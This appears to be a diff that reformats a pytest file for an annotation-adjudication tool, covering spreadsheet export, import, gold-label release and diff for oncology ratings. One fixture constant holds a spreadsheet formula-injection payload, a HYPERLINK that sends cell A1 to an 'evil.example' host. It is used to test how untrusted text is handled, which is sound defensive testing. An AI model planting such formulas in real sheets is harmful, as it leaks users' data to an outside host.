@@ -23,23 +23,39 @@ from goldboard.fileio import write_csv_atomic, write_jsonl_atomic
 from goldboard.study import Study
 
 sys.path.insert(0, str(Path(__file__).resolve().parent))  # --import-mode=importlib: share the MTB table
-from test_flags import I, MTB_PAIRS, P, S, U, mtb_table  # noqa: E402
+from test_flags import MTB_PAIRS, I, P, S, U, mtb_table  # noqa: E402
 
 EVIL = '=HYPERLINK("http://evil.example/x?leak="&A1,"Click for details")'
 LONG = "Stage IV adenocarcinoma. " * 2000  # 50,000 characters
 MI = "missing_info"
-MI_VALUES = ["stage", "ecog_status", "prior_therapy", "pdl1_expression", "brain_metastasis",
-             "biomarker_validation", "variant_actionability"]  # mtb schema order, spelled out
+MI_VALUES = [
+    "stage",
+    "ecog_status",
+    "prior_therapy",
+    "pdl1_expression",
+    "brain_metastasis",
+    "biomarker_validation",
+    "variant_actionability",
+]  # mtb schema order, spelled out
 
 # missing_info ticked by (onc_a, onc_b) per item C-n ("" = nothing ticked / field hidden for S and U).
 # By hand: sets differ on C-1 2 3 4 5 6 9 12 16 21 24 (11 disagreements; C-21 and C-24 agree on the
 # safety label); equal on the 13 others (C-8 and C-23 spelled in another order/case); C-99: onc_b missing.
 MISSING_INFO = {
-    1: ("stage|ecog_status", ""), 2: ("pdl1_expression", ""), 3: ("stage", ""), 4: ("stage", ""),
-    5: ("", "brain_metastasis"), 6: ("", "stage"), 7: ("stage", "stage"),
-    8: ("stage|pdl1_expression", "PDL1_Expression|stage"), 9: ("", "ecog_status"), 12: ("ecog_status", ""),
-    16: ("biomarker_validation", ""), 20: ("ecog_status", "ecog_status"),
-    21: ("ecog_status", "ecog_status|prior_therapy"), 23: ("stage|brain_metastasis", "brain_metastasis| stage"),
+    1: ("stage|ecog_status", ""),
+    2: ("pdl1_expression", ""),
+    3: ("stage", ""),
+    4: ("stage", ""),
+    5: ("", "brain_metastasis"),
+    6: ("", "stage"),
+    7: ("stage", "stage"),
+    8: ("stage|pdl1_expression", "PDL1_Expression|stage"),
+    9: ("", "ecog_status"),
+    12: ("ecog_status", ""),
+    16: ("biomarker_validation", ""),
+    20: ("ecog_status", "ecog_status"),
+    21: ("ecog_status", "ecog_status|prior_therapy"),
+    23: ("stage|brain_metastasis", "brain_metastasis| stage"),
     24: ("biomarker_validation", "variant_actionability"),
 }
 
@@ -68,13 +84,22 @@ def sha(p: Path) -> str:
 def study(tmp_path):
     st = Study.init(tmp_path / "study", schema="mtb", raters=["onc_a", "onc_b"], url="http://127.0.0.1:8089")
     df = mtb_table_with_missing_info()
-    df["task_id"] = (100 + df["item_id"].str.split("-").str[1].astype(int) * 2
-                     + (df["rater"] == "onc_b")).astype(str)  # one task per item x rater
+    df["task_id"] = (100 + df["item_id"].str.split("-").str[1].astype(int) * 2 + (df["rater"] == "onc_b")).astype(
+        str
+    )  # one task per item x rater
     df["project_id"] = df["rater"].map({"onc_a": "1", "onc_b": "2"})
     write_csv_atomic(df, st.ratings_path(1))
-    units = [{"item_id": f"C-{n}", "case_id": f"C-{n}", "output_id": "", "model": "",
-              "case_text": f"Case {n}: NSCLC, EGFR L858R", "output_text": f"Osimertinib for case {n}"}
-             for n in range(1, len(MTB_PAIRS) + 1)]
+    units = [
+        {
+            "item_id": f"C-{n}",
+            "case_id": f"C-{n}",
+            "output_id": "",
+            "model": "",
+            "case_text": f"Case {n}: NSCLC, EGFR L858R",
+            "output_text": f"Osimertinib for case {n}",
+        }
+        for n in range(1, len(MTB_PAIRS) + 1)
+    ]
     units[0]["output_text"] = EVIL  # C-1: sufficiency_vs_optimization, on the agenda
     units[1]["case_text"] = LONG  # C-2
     units[2]["output_text"] = "@SUM(1+1)\x07 bell"  # C-3
@@ -183,8 +208,11 @@ def test_sheet_layout_and_untrusted_text(study, tmp_path):
     assert all(isinstance(x, float) for x in kappa[2:5]) and kappa[3] < kappa[2] < kappa[4]
     from goldboard.analysis.agreement import agreement
 
-    ref = next(s for s in agreement(mtb_table(), "safety_label", schema=study.schema)["statistics"]
-               if s["statistic"] == "cohen_kappa" and s["weights"] in (None, "none"))
+    ref = next(
+        s
+        for s in agreement(mtb_table(), "safety_label", schema=study.schema)["statistics"]
+        if s["statistic"] == "cohen_kappa" and s["weights"] in (None, "none")
+    )
     assert kappa[2:5] == pytest.approx((ref["value"], ref["ci_low"], ref["ci_high"]), abs=1e-12)
     code = [r[:4] for r in wb["Codebook"].iter_rows(values_only=True)]
     assert ("safety_label", "nominal", I, "A critical field is missing, so safety cannot be judged.") in code
@@ -197,41 +225,78 @@ def test_round_trip_import_export_every_row(study, tmp_path):
     sheet = tmp_path / "review.xlsx"
     ratings_sha = sha(study.ratings_path(1))
     assert run("adjudicate", "sheet", "--study", study.path, "-o", sheet).exit_code == 0
-    fill(sheet, {
-        "C-10": (S, None, None),  # sides with onc_a: no reason needed
-        "C-1": (P, "ECOG 2: caveat, information sufficient", "dr_kim"),  # overrides both
-        "C-5": ("unresolved", "await pathology review", None),
-        "C-7": ("insufficient info", None, None),  # alias, case-insensitive
-        "C-99": (S, None, None),  # the only rating
-        # multi-select decisions, typed as free text
-        ("C-1", MI): ("ECOG_status, stage", None, None),  # onc_a's set, other order/case/separator
-        ("C-2", MI): ("none", None, None),  # onc_b's empty set
-        ("C-24", MI): ("variant_actionability ;biomarker_validation", "both are missing", "dr_kim"),  # overrides both
-        ("C-21", MI): ("Unresolved", "ask the pathologist", None),
-    })
+    fill(
+        sheet,
+        {
+            "C-10": (S, None, None),  # sides with onc_a: no reason needed
+            "C-1": (P, "ECOG 2: caveat, information sufficient", "dr_kim"),  # overrides both
+            "C-5": ("unresolved", "await pathology review", None),
+            "C-7": ("insufficient info", None, None),  # alias, case-insensitive
+            "C-99": (S, None, None),  # the only rating
+            # multi-select decisions, typed as free text
+            ("C-1", MI): ("ECOG_status, stage", None, None),  # onc_a's set, other order/case/separator
+            ("C-2", MI): ("none", None, None),  # onc_b's empty set
+            ("C-24", MI): (
+                "variant_actionability ;biomarker_validation",
+                "both are missing",
+                "dr_kim",
+            ),  # overrides both
+            ("C-21", MI): ("Unresolved", "ask the pathologist", None),
+        },
+    )
     res = run("adjudicate", "import", "--study", study.path, sheet, "--adjudicator", "dr_lee")
     assert res.exit_code == 0, res.output
     assert "9 new decisions, 0 changed, 0 unchanged, 20 left blank" in res.output
     log = [json.loads(line) for line in study.decisions_path.read_text().splitlines()]
     assert [(e["item_id"], e["field"], e["decision"], e["adjudicator"]) for e in log] == [  # agenda order
-        ("C-10", "safety_label", S, "dr_lee"), ("C-1", "safety_label", P, "dr_kim"),
-        ("C-1", MI, "stage|ecog_status", "dr_lee"), ("C-2", MI, "", "dr_lee"),
-        ("C-5", "safety_label", "unresolved", "dr_lee"), ("C-7", "safety_label", I, "dr_lee"),
-        ("C-99", "safety_label", S, "dr_lee"), ("C-21", MI, "unresolved", "dr_lee"),
-        ("C-24", MI, "biomarker_validation|variant_actionability", "dr_kim")]
-    assert all(e["source"] == "sheet" and e["sheet"] == "review.xlsx" and e["sheet_sha256"] == sha(sheet)
-               and e["independent"] is True and e["previous_id"] is None for e in log)
+        ("C-10", "safety_label", S, "dr_lee"),
+        ("C-1", "safety_label", P, "dr_kim"),
+        ("C-1", MI, "stage|ecog_status", "dr_lee"),
+        ("C-2", MI, "", "dr_lee"),
+        ("C-5", "safety_label", "unresolved", "dr_lee"),
+        ("C-7", "safety_label", I, "dr_lee"),
+        ("C-99", "safety_label", S, "dr_lee"),
+        ("C-21", MI, "unresolved", "dr_lee"),
+        ("C-24", MI, "biomarker_validation|variant_actionability", "dr_kim"),
+    ]
+    assert all(
+        e["source"] == "sheet"
+        and e["sheet"] == "review.xlsx"
+        and e["sheet_sha256"] == sha(sheet)
+        and e["independent"] is True
+        and e["previous_id"] is None
+        for e in log
+    )
 
     res = run("gold", "export", "--study", study.path)
     assert res.exit_code == 0, res.output
     assert "(50 rows: 21 unanimous, 7 adjudicated, 22 unresolved)" in res.output
     gold = pd.read_csv(study.gold_dir / "v1" / "gold.csv", dtype=str, keep_default_na=False)
-    assert list(gold.columns) == ["item_id", "case_id", "output_id", "model", "field", "gold_value", "method",
-                                  "value_onc_a", "value_onc_b", "adjudicator", "independent", "reason",
-                                  "decided_at", "decision_id"]
-    decided = {("C-10", "safety_label"): S, ("C-1", "safety_label"): P, ("C-7", "safety_label"): I,
-               ("C-99", "safety_label"): S, ("C-1", MI): "stage|ecog_status", ("C-2", MI): "",
-               ("C-24", MI): "biomarker_validation|variant_actionability"}
+    assert list(gold.columns) == [
+        "item_id",
+        "case_id",
+        "output_id",
+        "model",
+        "field",
+        "gold_value",
+        "method",
+        "value_onc_a",
+        "value_onc_b",
+        "adjudicator",
+        "independent",
+        "reason",
+        "decided_at",
+        "decision_id",
+    ]
+    decided = {
+        ("C-10", "safety_label"): S,
+        ("C-1", "safety_label"): P,
+        ("C-7", "safety_label"): I,
+        ("C-99", "safety_label"): S,
+        ("C-1", MI): "stage|ecog_status",
+        ("C-2", MI): "",
+        ("C-24", MI): "biomarker_validation|variant_actionability",
+    }
     left_open = {("C-5", "safety_label"): "await pathology review", ("C-21", MI): "ask the pathologist"}
     assert len(gold) == 2 * (len(MTB_PAIRS) + 1)
     assert list(gold["field"]) == ["safety_label", MI] * (len(MTB_PAIRS) + 1)  # item by item, schema order
@@ -246,7 +311,8 @@ def test_round_trip_import_export_every_row(study, tmp_path):
         else:  # sets, written |-joined in schema order ("" = nothing ticked)
             a, b = MISSING_INFO.get(n, ("", "" if n <= len(MTB_PAIRS) else None))
             assert as_set(row.value_onc_a) == as_set(a) and row.value_onc_a == "|".join(
-                v for v in MI_VALUES if v in as_set(a)), row
+                v for v in MI_VALUES if v in as_set(a)
+            ), row
             assert row.value_onc_b == ("" if b is None else "|".join(v for v in MI_VALUES if v in as_set(b))), row
             same = b is not None and as_set(a) == as_set(b)
         if key in decided:
@@ -261,7 +327,8 @@ def test_round_trip_import_export_every_row(study, tmp_path):
             assert (row.method, row.gold_value) == ("unresolved", ""), row
     unanimous_none = gold[(gold.field == MI) & (gold.method == "unanimous") & (gold.gold_value == "")]
     assert sorted(unanimous_none.item_id, key=lambda i: int(i[2:])) == [
-        f"C-{n}" for n in (10, 11, 13, 14, 15, 17, 18, 19, 22)]  # both raters ticked nothing
+        f"C-{n}" for n in (10, 11, 13, 14, 15, 17, 18, 19, 22)
+    ]  # both raters ticked nothing
     man = json.loads((study.gold_dir / "v1" / "manifest.json").read_text())
     assert man["counts"]["safety_label"] == {"unanimous": 8, "adjudicated": 4, "unresolved": 13}
     # hand count: 13 equal sets; C-1, C-2, C-24 decided; C-3 4 5 6 9 12 16 21 99 open
@@ -283,7 +350,11 @@ def test_round_trip_import_export_every_row(study, tmp_path):
     assert run("adjudicate", "sheet", "--study", study.path, "-o", sheet2).exit_code == 0
     _, pre = rows_by_item(openpyxl.load_workbook(sheet2)["Disagreements"], MI)
     assert [pre[i]["Decision"].value for i in ("C-1", "C-2", "C-21", "C-3")] == [
-        "stage|ecog_status", "none", "unresolved", None]
+        "stage|ecog_status",
+        "none",
+        "unresolved",
+        None,
+    ]
     res = run("adjudicate", "import", "--study", study.path, sheet2, "--adjudicator", "someone_else")
     assert res.exit_code == 0 and "0 new decisions, 0 changed, 9 unchanged" in res.output
     assert study.decisions_path.read_bytes() == log_before
@@ -293,26 +364,38 @@ def test_round_trip_import_export_every_row(study, tmp_path):
 
     # ---- changed decisions are appended, the old ones kept; a new release; diff shows them
     v1_sha = sha(study.gold_dir / "v1" / "gold.csv")
-    fill(sheet, {"C-10": (U, "onc_b's reading of the trial evidence holds", None),
-                 ("C-2", MI): ("pdl1_expression", None, None)})  # none -> onc_a's set
+    fill(
+        sheet,
+        {
+            "C-10": (U, "onc_b's reading of the trial evidence holds", None),
+            ("C-2", MI): ("pdl1_expression", None, None),
+        },
+    )  # none -> onc_a's set
     res = run("adjudicate", "import", "--study", study.path, sheet, "--adjudicator", "dr_lee", "--not-independent")
     assert res.exit_code == 0 and "0 new decisions, 2 changed, 7 unchanged" in res.output, res.output
     log = [json.loads(line) for line in study.decisions_path.read_text().splitlines()]
     assert len(log) == 11 and log[:9] == [json.loads(x) for x in log_before.decode().splitlines()]
     assert (log[9]["previous_id"], log[9]["previous_decision"], log[9]["independent"]) == (log[0]["id"], S, False)
     assert (log[10]["field"], log[10]["decision"], log[10]["previous_id"], log[10]["previous_decision"]) == (
-        MI, "pdl1_expression", log[3]["id"], "")
+        MI,
+        "pdl1_expression",
+        log[3]["id"],
+        "",
+    )
     res = run("gold", "export", "--study", study.path, "--format", "jsonl")
     assert res.exit_code == 0 and "v2" in res.output
     assert sha(study.gold_dir / "v1" / "gold.csv") == v1_sha
     v2 = [json.loads(x) for x in (study.gold_dir / "v2" / "gold.jsonl").read_text().splitlines()]
-    assert {(r["item_id"], r["gold_value"], r["method"]) for r in v2 if r["field"] == MI and r["item_id"] in
-            ("C-2", "C-10")} == {("C-2", "pdl1_expression", "adjudicated"), ("C-10", "", "unanimous")}
+    assert {
+        (r["item_id"], r["gold_value"], r["method"]) for r in v2 if r["field"] == MI and r["item_id"] in ("C-2", "C-10")
+    } == {("C-2", "pdl1_expression", "adjudicated"), ("C-10", "", "unanimous")}
     res = run("gold", "diff", "v1", "v2", "--study", study.path, "--format", "json")
     assert res.exit_code == 0, res.output
     changes = json.loads(res.output)["changes"]
     assert [(c["item_id"], c["field"], c["change"], c["old_value"], c["new_value"]) for c in changes] == [
-        ("C-2", MI, "value", "", "pdl1_expression"), ("C-10", "safety_label", "value", S, U)]
+        ("C-2", MI, "value", "", "pdl1_expression"),
+        ("C-10", "safety_label", "value", S, U),
+    ]
     res = run("gold", "diff", "v1", "v2", "--study", study.path)
     assert "C-10" in res.output and "2 changed" in res.output
     # raters' ratings were never modified
@@ -353,12 +436,16 @@ def test_bad_cells_reported_by_reference_nothing_imported(study, tmp_path):
     key_col = openpyxl.utils.get_column_letter(head.index("Key (do not edit)") + 1)
     assert f"Disagreements!{key_col}{r4}: the hidden key was edited" in res.output
     assert f"Disagreements!{key_col}{ws.max_row}: row has no key" in res.output
-    allowed = "stage, ecog_status, prior_therapy, pdl1_expression, brain_metastasis, biomarker_validation, " \
-              "variant_actionability, none, unresolved"
+    allowed = (
+        "stage, ecog_status, prior_therapy, pdl1_expression, brain_metastasis, biomarker_validation, "
+        "variant_actionability, none, unresolved"
+    )
     assert f'Disagreements!F{m3}: "stgae" is not a value of missing_info (allowed: {allowed})' in res.output
     assert f'Disagreements!F{m4}: "none" cannot be combined with other values' in res.output
-    assert (f'Disagreements!G{m12}: reason required: decision "prior_therapy|pdl1_expression" overrides every '
-            f"rater (ecog_status, none)") in res.output
+    assert (
+        f'Disagreements!G{m12}: reason required: decision "prior_therapy|pdl1_expression" overrides every '
+        f"rater (ecog_status, none)"
+    ) in res.output
     assert f'Disagreements!F{m5}: decision "|;" names no value of missing_info' in res.output
     assert "review.xlsx: 10 problems found; nothing imported" in res.output
     assert not study.decisions_path.exists()
@@ -369,8 +456,13 @@ def test_flag_study_cli(study, tmp_path):
     assert res.exit_code == 0, res.output
     data = json.loads(res.stdout)
     assert data["summary"]["by_boundary"]["sufficiency_vs_optimization"] == {
-        "field": "safety_label", "count": 9, "of": 16, "share": 0.5625, "priority": 2,
-        "explanation": study.schema.boundaries[1].explanation}
+        "field": "safety_label",
+        "count": 9,
+        "of": 16,
+        "share": 0.5625,
+        "priority": 2,
+        "explanation": study.schema.boundaries[1].explanation,
+    }
     res = run("flag", "--study", study.path, "--triggered-only", "-o", tmp_path / "agenda.txt")
     assert res.exit_code == 0 and "Wrote 17 flagged rows" in res.output
     assert "sufficiency_vs_optimization: 9 of 16" in (tmp_path / "agenda.txt").read_text()
@@ -393,8 +485,10 @@ def test_import_cli_errors_without_traceback(study, tmp_path):
     shutil.copy(study.ratings_path(1), tmp_path / "x.csv")
     sheet = tmp_path / "review.xlsx"
     assert run("adjudicate", "sheet", "--study", study.path, "-o", sheet).exit_code == 0
-    write_csv_atomic(pd.DataFrame({"round": ["1"], "item_id": ["M1"], "rater": ["r1"], "field": ["severity"],
-                                   "value": ["3"]}), other.ratings_path(1))
+    write_csv_atomic(
+        pd.DataFrame({"round": ["1"], "item_id": ["M1"], "rater": ["r1"], "field": ["severity"], "value": ["3"]}),
+        other.ratings_path(1),
+    )
     res = run("adjudicate", "import", "--study", other.path, sheet, "--adjudicator", "x")
     assert res.exit_code != 0 and "made for schema" in res.output
     res = run("gold", "diff", "v1", "v9", "--study", study.path)
